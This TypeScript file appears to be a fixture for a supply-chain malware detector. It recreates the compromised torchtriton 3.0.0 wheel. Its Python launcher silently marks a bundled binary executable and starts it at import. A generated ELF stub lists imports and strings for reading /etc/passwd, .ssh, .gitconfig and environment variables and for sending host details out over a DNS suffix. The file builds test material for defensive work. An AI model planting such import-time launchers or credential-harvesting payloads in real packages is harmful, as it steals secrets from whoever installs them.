import { makeElf } from './elf.ts';
import { fillerModule } from './filler.ts';
import type { Draft, Remote, Replay } from './incident.ts';
import { ctypesLibrary, launcherWheel } from './look-alikes/native.ts';
import { py } from './python-text.ts';

const LAUNCH = py`
import os
import subprocess


def _runtime_check():
    binary = os.path.join(os.path.dirname(__file__), "runtime", "triton")
    try:
        os.chmod(binary, 0o755)
        subprocess.Popen([binary], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except OSError:
        pass


_runtime_check()
`;

function malicious(c: Remote): Draft {
  const binary = makeElf({
    seed: 'torchtriton',
    imports: {
      'libc.so.6': [
        'gethostname',
        'getlogin',
        'getcwd',
        'environ',
        'fopen',
        'opendir',
        'readdir',
        'socket',
        'sendto',
        'getpwuid',
      ],
      'libresolv.so.2': ['__res_query', 'ns_initparse'],
      'libcrypto.so.3': ['EVP_EncryptInit_ex', 'EVP_aes_256_cbc'],
    },
    strings: [
      '/etc/resolv.conf',
      '/etc/hosts',
      '/etc/passwd',
      '%s/.gitconfig',
      '%s/.ssh',
      '/proc/self/environ',
      'hostname=%s&user=%s&cwd=%s',
      `%s.%d.${c.host}`,
      'nameserver 203.0.113.53',
    ],
    textBytes: 300_000,
  });
  return {
    kind: 'wheel',
    name: 'torchtriton',
    version: '3.0.0',
    files: {
      'triton/runtime/triton': binary,
      'triton/runtime/__init__.py': fillerModule('Runtime tables.', 200, 81),
      'triton/compiler.py': fillerModule('Compiler passes.', 400, 82),
      'triton/language/__init__.py': fillerModule('Language of kernels.', 300, 83),
    },
    wheel: { tag: 'cp310-cp310-manylinux_2_17_x86_64' },
    sites: [
      {
        path: 'triton/__init__.py',
        form: 'module',
        before:
          '"""A language and compiler for deep-learning kernels."""\n__version__ = "3.0.0"\n\nfrom . import language, runtime\n',
        code: LAUNCH,
        after: '\n__all__ = ["language", "runtime"]\n',
      },
    ],
  };
}

export const TORCHTRITON: Replay = {
  id: '03-torchtriton',
  title: 'torchtriton 3.0.0: a bundled ELF program started at import, DNS as the way out',
  source: 'https://pytorch.org/blog/compromised-nightly-dependency/',
  runs: 'import makes a bundled program executable and starts it; its constants name /etc/passwd, .ssh and a DNS suffix',
  remote: 'https://dns-tunnel.invalid',
  draft: malicious,
  lookAlikes: () => [ctypesLibrary(), launcherWheel()],
};
